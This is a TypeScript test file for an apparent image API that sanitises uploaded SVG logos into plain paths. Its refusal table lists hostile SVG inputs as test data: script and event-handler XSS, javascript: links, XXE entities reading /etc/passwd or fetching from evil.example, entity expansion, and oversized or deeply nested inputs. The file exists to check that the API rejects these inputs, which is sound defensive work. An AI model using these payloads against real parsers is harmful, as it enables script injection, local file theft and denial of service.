import { env } from 'cloudflare:workers';
import { beforeAll, describe, expect, it } from 'vitest';
import { readPixels } from '#harness/symbols/read-png.ts';
import { type ApiClient, create, createClient, readError } from '#harness/worker/api-client.ts';
import { renderPixels } from '#symbol/picture/render-pixels.ts';

const TARGET = 'https://example.com/menu';

/** As Illustrator, Inkscape and Figma write them: classes, groups, other namespaces. A red square with a white disc and a blue wave. */
const BRAND = `\uFEFF<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: a drawing program -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
  x="0px" y="0px" viewBox="0 0 200 200" style="enable-background:new 0 0 200 200;" xml:space="preserve" inkscape:version="1.3">
<style type="text/css">.st0{fill:#E30613;} .st1,.st2{fill:#FFF} .st2{fill-rule:evenodd;clip-rule:evenodd}</style>
<title>Acme &amp; Sons</title><defs><linearGradient id="unused"/></defs><metadata>made by somebody</metadata>
<inkscape:grid/>
<g id="all" transform="translate(10 10)" stroke="none" stroke-width="2">
  <rect class="st0" x="-10" y="-10" width="200" height="200" rx="20"/>
  <g transform="scale(.5) rotate(0)"><circle class="st1" cx="180" cy="180" r="100"/></g>
  <path style="fill: rgb(0, 0, 255)" d="M50 90q20-40 40 0t40 0l0 10-80 0z"/>
  <path fill="none" d="M0 0L900 900"/><g display="none"><polygon points="0,0 999,0 0,999"/></g>
</g></svg>`;

const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" ${attributes}>${content}</svg>`;

let client: ApiClient;
beforeAll(async () => {
  client = await createClient({ plan: 'business' });
});

const send = (file: string | Uint8Array, by = client) =>
  by.request('POST', '/v1/images', typeof file === 'string' ? new TextEncoder().encode(file) : file, {
    headers: { 'Content-Type': 'image/svg+xml' },
  });

async function upload(file: string): Promise<{ id: string; width: number; height: number; bytes: number }> {
  const response = await send(file);
  expect(response.status, await response.clone().text()).toBe(200);
  return response.json();
}

describe('an SVG as a logo', () => {
  it('becomes our own paths: nothing of its text is kept, and its picture is the same', async () => {
    const image = await upload(BRAND);
    expect(image).toMatchObject({ width: 200, height: 200 });
    const file = await client.request('GET', `/v1/images/${image.id}/file`);
    expect(file.headers.get('Content-Type')).toBe('image/svg+xml');
    expect(file.headers.get('Content-Disposition')).toContain('.svg"');
    const text = await file.text();
    expect(text).toMatch(/^<svg [^<]*>(?:<path fill="#[0-9a-f]{6}"[^<]* d="[-\dMhvlcz .]+"\/>)+<\/svg>$/);
    expect(text).not.toMatch(/Acme|st0|Layer|style|title|\n/);
    const [ours, theirs] = [await renderPixels(text, 200), await renderPixels(BRAND.slice(1), 200)];
    const different = ours.filter((value, i) => Math.abs(value - theirs[i]!) > 24).length;
    expect(different).toBeLessThan(200);
  });

  it('is in the images and print files of a code, as paths', async () => {
    const { id: image } = await upload(BRAND);
    const code = await create(client, { target: TARGET, size: 512, style: { logo: { image } } });
    const stored = async (extension: string) => {
      const object = await env.IMAGES.get(`qr/${code.id.slice(3)}.${extension}`);
      return new Uint8Array(await object!.arrayBuffer());
    };
    const drawing = new TextDecoder().decode(await stored('svg'));
    expect(drawing).toContain('#e30613');
    expect(drawing).not.toMatch(/<image|href|data:/);
    const { rgba } = readPixels(await stored('png'));
    const at = (x: number, y: number) => [...rgba.subarray(4 * (y * 512 + x), 4 * (y * 512 + x) + 3)];
    expect(at(256, 245)).toEqual([255, 255, 255]);
    expect(at(256, 224)).toEqual([227, 6, 19]);
    const print = async (query: string) =>
      (await client.request('GET', `/v1/qr/${code.id}/print?width_mm=60&${query}`)).text();
    expect(await print('format=svg')).toContain('#e30613');
    expect(await print('format=eps')).toContain('0.8902 0.0235 0.0745 setrgbcolor');
    expect(await print('format=eps&color=k')).not.toContain('setrgbcolor');
    expect(await print('format=pdf')).toContain('/Subtype/Form');
  });

  it('takes shapes of every kind, in all their writings', async () => {
    const shapes = [
      '<rect width="5" height="5" ry="1"/><ellipse cx="5" cy="5" rx="2" ry="1e0"/>',
      '<polyline points="1 1 2 2,3 1" fill="REBECCAPURPLE"/><polygon points="1,1 5,5 5,1"/>',
      '<path d="M1 1A4 4 0 0 0 9 1S5 5 5 9Q4 8 3 6T1 4Z" fill="rgb(10%, 20%, 30%)"/>',
      '<g fill="#0f0"><path d="M0 0H10V10H0z" style="fill:#00f;opacity:1"/></g>',
      '<path transform="matrix(.5 0 0 .5 0 0) skewX(10) , translate(2,2)" d="m1 1h4v4h-4zm2 2l1 1v-1"/>',
    ];
    for (const content of shapes) {
      const { id } = await upload(svg(content));
      const ours = await (await client.request('GET', `/v1/images/${id}/file`)).text();
      const [mine, theirs] = [await renderPixels(ours, 100), await renderPixels(svg(content), 100)];
      expect(mine.filter((value, i) => Math.abs(value - theirs[i]!) > 48).length, content).toBeLessThan(40);
    }
  });

  it('that is not square is in the middle of its square', async () => {
    const { id, width, height } = await upload(
      '<svg xmlns="http://www.w3.org/2000/svg" width="40px" height="20"><path d="M0 0h40v20h-40z"/></svg>',
    );
    expect([width, height]).toEqual([40, 20]);
    const text = await (await client.request('GET', `/v1/images/${id}/file`)).text();
    expect(text).toContain('d="M0 250h1000v500h-1000z"');
  });

  it.each([
    [svg('<path d="M1 1h5v5z" stroke="#f00"/>'), /"stroke".*convert strokes to outlines/],
    [svg('<path d="M1 1h5v5z" style="stroke:#f00"/>'), /"stroke"/],
    [svg('<style>.a{stroke:red}</style><path class="a" d="M1 1h5v5z"/>'), /"stroke"/],
    [svg('<line x1="0" x2="5"/>'), /"line".*convert strokes/],
    [svg('<text>Hi</text>'), /"text".*convert text to paths/],
    [svg('<image href="x.png"/>'), /"image".*upload a PNG/],
    [svg('<path d="M1 1h5v5z" fill="url(#g)"/>'), /"fill" with a gradient/],
    [svg('<path d="M1 1h5v5z" fill="URL(https://evil.example/a.svg#b)"/>'), /"fill"/],
    [svg('<path d="M1 1h5v5z" fill="currentColor"/>'), /"fill"/],
    [svg('<path d="M1 1h5v5z" fill="rgba(0,0,0,.5)"/>'), /"fill"/],
    [svg('<path d="M1 1h5v5z" fill="#e3061380"/>'), /"fill"/],
    [svg('<path d="M1 1h5v5z" opacity=".5"/>'), /"opacity".*solid colours/],
    [svg('<g fill-opacity="0.2"><path d="M1 1h5v5z"/></g>'), /"fill-opacity"/],
    [svg('<g filter="url(#f)"/>'), /"filter"/],
    [svg('<g mask="url(#f)"/>'), /"mask"/],
    [svg('<g clip-path="url(#f)"/>'), /"clip-path"/],
    [svg('<use xlink:href="#a"/>'), /"use"/],
    [svg('<symbol id="a"/>'), /"symbol"/],
    [svg('<svg/>'), /"svg"/],
    [svg('<script>alert(1)</script>'), /"script"/],
    [svg('<foreignObject/>'), /"foreignObject"/],
    [svg('<a xlink:href="javascript:alert(1)"/>'), /"a"/],
    [svg('<animate attributeName="d"/>'), /"animate"/],
    [svg('<x:path xmlns:x="http://www.w3.org/2000/svg" d="M0 0h5v5z"/>'), /"x:path"/],
    [svg('<path d="M1 1h5v5z" onclick="alert(1)"/>'), /"onclick"/],
    [svg('', 'onload="alert(1)"'), /"onload"/],
    [svg('<path d="M1 1h5v5z" xlink:href="http://evil.example"/>'), /"xlink:href"/],
    [svg('<style>@import url(https://evil.example/a.css);</style>'), /"style"/],
    [svg('<style>@media print{.a{fill:red}}</style>'), /"(?:@|style)"/],
    [svg('<style>path{fill:red}</style>'), /"style".*classes/],
    [
      svg('<style>.a{fill:red !important;background:url(//evil.example)}</style>'),
      /"(?:background|style|fill)"/,
    ],
    [svg('<path d="M1 1h5v5z" style="fill:red;transform:scale(9)"/>'), /"transform"/],
    [svg('<path d="M1 1h5v5z" transform="perspective(3)"/>'), /"transform"/],
    [svg('<path d="M1 1h500v5z"/>'), /beyond its viewBox/],
    [svg('<path d="M1 1h1e999v5z"/>'), /no number|not well-formed|beyond/],
    [svg('<path d="M1 1 NaN 3z"/>'), /damaged/],
    [svg('<path d="M1 1h5v5z" transform="scale(1e308) scale(1e308)"/>'), /no number|beyond/],
    [svg('<rect width="100%" height="5"/>'), /a length/],
    [svg('<rect width="NaN" height="Infinity"/>'), /a length/],
    [svg('<path d="M1 1h5v5z"/>', 'preserveAspectRatio="none"'), /"preserveAspectRatio"/],
    ['<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 10"/>', /viewBox/],
    ['<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e9 1e9"/>', /viewBox/],
    ['<svg xmlns="http://www.w3.org/2000/svg"/>', /a length/],
    [svg(''), /shows nothing/],
    [svg('<path fill="none" d="M0 0h5v5z"/>'), /shows nothing/],
    [svg('<path d="M0 0h5v5z">'), /well-formed XML/],
    [svg('&nbsp;'), /well-formed XML/],
    ['<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + svg('&b;'), /entities/],
    ['<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg('<title>&x;</title>'), /entities/],
    ['<!DOCTYPE svg SYSTEM "a" [<!ENTITY % p SYSTEM "http://evil.example">%p;]>' + svg(''), /entities/],
    [svg(`${'<g>'.repeat(40)}<path d="M0 0h5v5z"/>${'</g>'.repeat(40)}`), /groups/],
    [svg('<g>'.repeat(30_000) + '</g>'.repeat(30_000)), /well-formed XML|groups/],
    [svg('<g/>'.repeat(2_001)), /2000 elements/],
    [svg(`<path d="M1 1${'l1 1-1-1'.repeat(30_000)}"/>`), /too many points/],
    [svg(`<path d="M1 1${'A1 1 0 1 1 2 2'.repeat(15_000)}"/>`), /too many points|beyond/],
    [svg(`<title>${'x'.repeat(262_144)}</title>`), /256 KiB/],
  ])('is refused with what is wrong and what to do: %.150s', async (file, message) => {
    const { errors } = await readError(send(file));
    expect(errors).toMatchObject([{ field: 'body', message: expect.stringMatching(message) }]);
    expect(errors![0]!.message).not.toMatch(/evil|alert|passwd/);
  });

  it.each([
    ['<!doctype html><html><body><svg viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg></body></html>', /HTML/],
    ['<?xml version="1.0"?><rss><svg/></rss>', /XML without an SVG/],
    [Buffer.from(`\uFEFF${svg('')}`, 'utf16le'), /UTF-16/],
  ])('is a 415 if it is none: %.60s', async (file, message) => {
    const error = await readError(send(file), 415, 'unsupported_media_type');
    expect(error.message).toMatch(message);
  });

  // Each takes minutes if its time grows faster than its length.
  it.each<[string, (length: number) => string]>([
    ['spaces in a declaration', (n) => svg(`<path style="fill:${' '.repeat(n)}{" d="M0 0h9v9z"/>`)],
    ['digits in a length', (n) => svg(`<rect width="${'1'.repeat(n)}x" height="1"/>`)],
    ['points', (n) => svg(`<polygon points="${'.'.repeat(n)}x"/>`)],
    ['declarations of a type', (n) => '<!DOCTYPE'.repeat(n / 9)],
    ['comments', (n) => svg(`<style>${'/* '.repeat(n / 3)}</style>`)],
    ['carriage returns', (n) => svg('\r'.repeat(n))],
  ])('is refused at once if it has 250,000 characters of %s', async (_, write) => {
    expect([400, 415]).toContain((await send(write(250_000))).status);
  });

  it('answers each of many broken files with a picture or a reason', async () => {
    const { seededRandom } = await import('#scripts/support/seeded-random.ts');
    const random = seededRandom(31);
    const own = await createClient({ plan: 'business' });
    for (let i = 0; i < 80; i++) {
      const bytes = new TextEncoder().encode(BRAND);
      for (let n = 0; n < 1 + 4 * random(); n++)
        bytes[Math.floor(random() * bytes.length)] = 32 + Math.floor(random() * 95);
      const cut = random() < 0.2 ? bytes.slice(0, Math.floor(random() * bytes.length)) : bytes;
      expect([200, 400, 415]).toContain((await send(cut, own)).status);
    }
  });
});
